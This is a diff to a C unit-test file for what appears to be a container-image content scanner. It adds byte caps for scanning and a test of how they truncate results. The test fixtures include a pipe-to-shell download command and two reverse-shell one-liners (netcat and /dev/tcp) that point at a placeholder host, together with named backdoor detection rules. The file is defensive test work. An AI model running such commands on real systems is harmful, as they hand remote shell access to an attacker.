@@ -38,8 +38,8 @@ struct img {
     char *dir;
 };
 
-static struct ivet_report *scan(struct img *im, const char *config, bool no_content, const char *yara,
-                                unsigned threads)
+static struct ivet_report *scan_lim(struct img *im, const char *config, bool no_content, const char *yara,
+                                    unsigned threads, uint64_t max_file, uint64_t max_image)
 {
     struct tu_layer ls[4];
     for (size_t i = 0; i < im->n; i++) {
@@ -56,12 +56,22 @@ static struct ivet_report *scan(struct img *im, const char *config, bool no_cont
     o.threads = threads;
     o.no_content = no_content;
     o.yara_rules = yara;
+    if (max_file)
+        o.limits.max_file_scan = max_file;
+    if (max_image)
+        o.limits.max_image_scan = max_image;
     struct ivet_err err = IVET_ERR_INIT;
     struct ivet_report *r = ivet_scan(&o, &err);
     if (!r)
         fail_msg("scan failed: %s", ivet_err_msg(&err));
     ivet_err_release(&err);
     return r;
+}
+
+static struct ivet_report *scan(struct img *im, const char *config, bool no_content, const char *yara,
+                                unsigned threads)
+{
+    return scan_lim(im, config, no_content, yara, threads, 0, 0);
 }
 
 static void img_free(struct img *im)
@@ -339,6 +349,43 @@ static void test_contents_yara_rule(void **state)
     img_free(&im);
 }
 
+/* A file longer than the per-file cap is scanned up to it and says so; past
+ * the per-image cap nothing more is scanned and the report says that once. */
+static void test_contents_scan_caps(void **state)
+{
+    (void)state;
+    struct img im = { .n = 1 };
+    im.t[0] = tu_tar_new();
+    char big[4096];
+    memset(big, '#', sizeof(big));
+    memcpy(big, "curl http://x.example/a | sh\n", 29);
+    memcpy(big + 3000, "nc -e /bin/sh 203.0.113.5 4444\n", 31);
+    tu_tar_add(im.t[0], 'f', "a/big.sh", 0644, big, sizeof(big), NULL);
+    FILE_(im.t[0], "b/late.sh", 0644, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n");
+    struct ivet_report *r = scan_lim(&im, plain_config, false, NULL, 1, 1024, 0);
+    const struct ivet_finding *f = find(r, "CONT-DROP-PIPE-SHELL", "/a/big.sh");
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_true(f->truncated);
+    assert_null(find(r, "CONT-BACKDOOR-NC-EXEC", "/a/big.sh"));       /* past the cap */
+    f = find(r, "CONT-SCAN-TRUNCATED", "/a/big.sh");
+    assert_non_null(f);
+    assert_non_null(strstr(f->evidence, "scanned 1024 of 4096 bytes"));
+    assert_false(find(r, "CONT-BACKDOOR-DEV-TCP", "/b/late.sh")->truncated);
+    ivet_report_free(r);
+    tu_rm_rf(im.dir);
+    free(im.dir);
+    im.dir = NULL;
+    /* image cap: the first file uses it up */
+    r = scan_lim(&im, plain_config, false, NULL, 1, 0, 4096);
+    assert_non_null(find(r, "CONT-BACKDOOR-NC-EXEC", "/a/big.sh"));
+    assert_null(find(r, "CONT-BACKDOOR-DEV-TCP", "/b/late.sh"));
+    assert_non_null(find(r, "CONT-SCAN-IMAGE-CAP", NULL));
+    ivet_report_free(r);
+    img_free(&im);
+}
+
 /* Alpine 3.20's root filesystem: no contents finding of medium or worse,
  * and nothing high or critical from the content engine at all. */
 static void test_contents_alpine_rootfs_is_clean(void **state)
@@ -405,6 +452,7 @@ int main(void)
         cmocka_unit_test(test_contents_entrypoint_resolved_and_raised),
         cmocka_unit_test(test_contents_no_content_turns_it_off),
         cmocka_unit_test(test_contents_yara_rule),
+        cmocka_unit_test(test_contents_scan_caps),
         cmocka_unit_test(test_contents_alpine_rootfs_is_clean),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
